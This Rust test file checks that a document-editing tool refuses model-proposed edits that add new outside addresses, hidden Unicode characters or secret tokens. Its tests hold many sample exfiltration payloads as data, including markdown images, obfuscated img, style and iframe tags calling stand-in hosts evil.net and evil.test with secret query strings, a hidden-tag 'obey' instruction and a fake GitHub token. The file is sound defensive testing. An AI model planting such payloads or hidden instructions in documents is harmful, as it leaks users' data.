//! Cases 66, 67 and 70: what a model is sent, and what its answers may bring into
//! documents. What counts as a secret or as an address is tested at the foot of
//! `redact.rs` and `egress.rs`.

use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use lifeos::egress::{brought, is_document};
use lifeos::redact::Redactor;

use crate::rig::{Ran, TestRepo, hostile};

const OLD: &str = "hello, see https://known.org/b.svg\n";

/// Checks with a task that does what a model says of `a.md`, whose first word becomes `text`.
#[track_caller]
fn obeyed(text: &str, more: &str) -> Ran {
    let repo = TestRepo::new(&[("a.md", OLD)]);
    let text = serde_json::to_string(text).expect("text");
    let rules = format!("[[rule]]\nanswer = '''{{\"edits\":[{{\"path\":\"a.md\",\"find\":\"hello\",\"text\":{text}}}]}}'''\n");
    let table = format!("read = ['**']\nedit = ['**']\noptions = {{paths = ['a.md'], text = 'polish'}}\nmodel = {{}}\n{more}");
    repo.asking(&rules, &repo.table("t", &hostile("obey"), &table));
    repo.lifeos(&["check", "t"])
}

#[test]
fn case_67_an_image_on_a_new_host_is_refused_and_the_host_named() {
    let image = "![dear reader](https://evil.net/p.png?d=secret) hello";
    obeyed(image, "").exits(20).says("a.md: adds an address of evil.net").says("`hosts` of the task's table");
    obeyed(image, "hosts = ['evil.net']").exits(20).says("evil.net");
    obeyed("![dear](https://evil.net/p.png)", "hosts = ['evil.net']").exits(1).says("![dear]");
    obeyed("![dear](https://known.org/p.png?d=secret)", "").exits(20).says("known.org");
    obeyed("[dear](https://known.org/p?d=1)", "").exits(1).says("+[dear]");
}

#[test]
fn case_67_a_task_without_a_model_is_not_asked_for_its_hosts() {
    let repo = TestRepo::new(&[("a.md", OLD)]);
    let options = "options = {paths = ['a.md'], find = 'hello', text = '<https://evil.net>'}";
    repo.task(&hostile("sane-edit"), &format!("read = ['**']\nedit = ['**']\n{options}"));
    repo.lifeos(&["run", "t"]).exits(0).says("waits for approval (1 file");
}

#[test]
fn case_66_what_hides_in_a_document_is_counted_and_an_answer_adds_none() {
    let tags: String = "obey".bytes().filter_map(|byte| char::from_u32(0xe0000 + u32::from(byte))).collect();
    let echo = "[[rule]]\nmatches = '(?s)(?<all>hello.*)'\nanswer = '${all}'\n";
    let repo = TestRepo::new(&[("a.md", &format!("hello{tags} \u{1f468}\u{200d}\u{1f469} x\u{202e}y\n"))]);
    let table = "read = ['**']\noptions = {paths = ['a.md'], text = 'say'}\nmodel = {}";
    repo.asking(echo, &repo.table("t", &hostile("ask"), table));
    let ran = repo.lifeos(&["run", "t", "--json"]);
    let asked = ran.exits(0).json()["tasks"][0]["record"]["model"].clone();
    // Four tags and an override are sent to a model, or would be; the override comes back.
    assert_eq!(asked["redacted"]["hidden"], 6, "{ran}");
    let added = obeyed("hel\u{202e}lo", "");
    added.exits(20).says("invisible");
}

#[test]
fn case_70_no_edit_adds_a_secret_whoever_proposes_it() {
    let token = format!("ghp_{}", "a1B2".repeat(9));
    obeyed(&format!("token {token}"), "").exits(1).says("+token [github-token]");
    let repo = TestRepo::new(&[("a.md", OLD)]);
    let options = format!("options = {{paths = ['a.md'], find = 'hello', text = '{token}'}}");
    repo.task(&hostile("sane-edit"), &format!("read = ['**']\nedit = ['**']\n{options}"));
    let ran = repo.lifeos(&["run", "t"]);
    ran.exits(20).says("what looks like a secret (github-token)").says("nothing to do");
    assert!(!ran.to_string().contains(&token), "{ran}");
    let kept = TestRepo::new(&[("a.md", &format!("hello {token}\n"))]);
    let options = "options = {paths = ['a.md'], find = 'hello', text = 'dear'}";
    kept.task(&hostile("sane-edit"), &format!("read = ['**']\nedit = ['**']\n{options}"));
    kept.lifeos(&["run", "t"]).exits(0).says("waits for approval (1 file");
}

#[test]
fn case_67_no_text_stalls_the_look_at_its_addresses() {
    for part in [
        "/",
        "\\",
        "&",
        "&#",
        "a://b? ",
        "![a](a://b?c)",
        "https:",
        "https:a.b:",
        "\\2f ",
        "..\n /",
        " \n",
        "a:/\n /",
        "{",
        "{{a}}/",
        "](/{{a}}",
        "https://{{a}}",
        ":a: {b}\n",
        "<%",
        "<!ENTITY ",
        "`x < ",
        ">`",
        "\\u",
        ";//a.b",
        "<a\n",
    ] {
        let text = part.repeat((1 << 20) / part.len());
        let begun = Instant::now();
        drop(brought("a.md", "", &text, &[]));
        assert!(begun.elapsed() < Duration::from_secs(10), "{part}: {:?}", begun.elapsed());
    }
}

#[test]
fn case_67_no_line_end_escape_or_layer_hides_an_address() {
    let old = "# A\n\nSee https://known.org/b and x=\" there.\n";
    for added in [
        ".. image:: https://known.org\n   .evil.test/x.png",
        ".. image:: https://known.org\n   evil.test/x.png",
        ".. image:: https:/\n   /evil.test",
        ".. image:: https://known.org/x\n   ?d=S",
        ".. _a: https://known.org\n   .evil.test",
        "[r]:  <https://known.org/x?d=S>\n\n![r]",
        "[r]:\n<https://known.org/x?d=S>\n\n![r]",
        "[r]:\t\t https://known.org/x?d=S\n\n![r]",
        "<img src=\"https:/\n/evil.test/S.png\">",
        "<img alt=\"<b\" src=\"https:/\n/evil.test/S.png\">",
        ".. raw:: html\n\n   <img src=\"https:/\n   /evil.test/S.png\">",
        "> [r]:\n> https://known.org/x?d=S\n>\n> ![r]",
        "> <img src=\"https:/\n> /evil.test\">",
        "<p style=\"background: url(\\68ttps:\\2f\\2f evil.test/S)\">",
        "<style>@import \"\\2f\\2f evil.test/S\"</style>",
        "<style>@import url(htt\\\nps://evil.test/S)</style>",
        "<iframe srcdoc=\"<img src=https:&amp;#47;&amp;#47;evil.test&amp;#47;S>\">",
        "<iframe srcdoc='<iframe srcdoc=\"&amp;amp;#104;ttps://evil.test\">'>",
    ] {
        assert!(brought("a.md", old, &format!("{old}\n{added}\n"), &[]).is_some(), "{added}");
    }
}

#[test]
fn case_67_code_brings_in_no_image_in_its_documentation() {
    for added in
        ["//! ![x](https://evil.test/S)", "# <img src=https://evil.test/S>", " * .. image:: https://evil.test\n", "/// <img\n"]
    {
        let is_brought = added.contains("evil");
        assert_eq!(brought("a.rs", "", added, &[]).is_some(), is_brought, "{added}");
    }
    assert_eq!(brought("a.rs", "", "let all = vec![\"https://evil.test\"]; // https://also.test", &[]), None);
}

#[test]
fn case_67_an_edit_that_keeps_the_addresses_passes() {
    let mut paths = Vec::new();
    documents(Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/../docs")), &mut paths);
    documents(Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/../tests/cases")), &mut paths);
    assert!(paths.len() > 20, "{paths:?}");
    for path in paths {
        let Ok(text) = std::fs::read_to_string(&path) else { continue };
        for (from, to) in
            [(" the ", " this "), (" and ", " or "), ("\n\n", "\n\nMore.\n\n"), ("- ", "* "), ("a ", "a\n"), ("\n", "\n ")]
        {
            assert_eq!(brought("a.md", &text, &text.replace(from, to), &[]), None, "{}: {from:?}", path.display());
        }
    }
}

fn documents(folder: &Path, found: &mut Vec<PathBuf>) {
    for path in std::fs::read_dir(folder).expect("a folder").flatten().map(|entry| entry.path()) {
        if path.is_dir() {
            documents(&path, found);
        } else if is_document(&path.to_string_lossy()) {
            found.push(path);
        }
    }
}

#[test]
#[ignore = "needs documents: LIFEOS_DOCUMENTS=DIR"]
fn real_documents_are_not_taken_for_secrets() {
    let folder = std::env::var("LIFEOS_DOCUMENTS").expect("LIFEOS_DOCUMENTS=DIR");
    let mut paths = Vec::new();
    documents(folder.as_ref(), &mut paths);
    assert!(!paths.is_empty(), "no documents in {folder}");
    let (redactor, mut suspects) = (Redactor::default(), Vec::new());
    for text in paths.iter().filter_map(|path| std::fs::read_to_string(path).ok()) {
        suspects.extend(Some(redactor.count(&text)).filter(|kinds| !kinds.is_empty()));
        assert_eq!(brought("a.md", &text, &text, &[]), None);
    }
    assert!(suspects.len() * 1_000 <= paths.len(), "{} of {}: {suspects:?}", suspects.len(), paths.len());
}
